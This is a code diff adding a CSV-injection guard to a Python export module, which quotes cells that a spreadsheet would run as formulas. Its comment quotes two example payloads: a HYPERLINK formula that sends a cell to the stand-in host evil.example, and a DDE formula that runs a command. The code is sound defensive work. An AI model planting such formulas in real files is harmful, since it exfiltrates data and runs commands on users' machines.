@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from sqlalchemy import Select, select
@@ -18,6 +19,29 @@ _MENTION = ["brand", "owned", "label", "score", "story"]
 # when koll first saw the item ("datum uppskattat"); such items are not news of that day.
 ITEM_FIELDS = _ITEM + ["published_estimated"]
 MENTION_FIELDS = _ITEM + _MENTION + ["published_estimated"]
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list for CSV
+# injection): a feed title `=HYPERLINK("http://evil.example/?x="&A1,"Klicka")` would become a
+# live link that sends the neighbouring cell away, `=cmd|' /C calc'!A0` a command.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# ... except a plain number such as -0.25 or +3, which a spreadsheet reads as the number it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell that no spreadsheet runs as a formula: text starting with = + - @, a tab or a
+    carriage return gets a leading ' (shown as text, the ' hidden); anything else is unchanged.
+
+    For every CSV koll writes; JSON lines and Parquet keep the text exactly as stored.
+    """
+    risky = isinstance(value, str) and value.startswith(_FORMULA_START)
+    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value
+
+
+def spreadsheet_row(row: dict) -> dict:
+    """`row` with every cell made spreadsheet_safe."""
+    return {k: spreadsheet_safe(v) for k, v in row.items()}
 
 
 def iso_utc(dt) -> str:
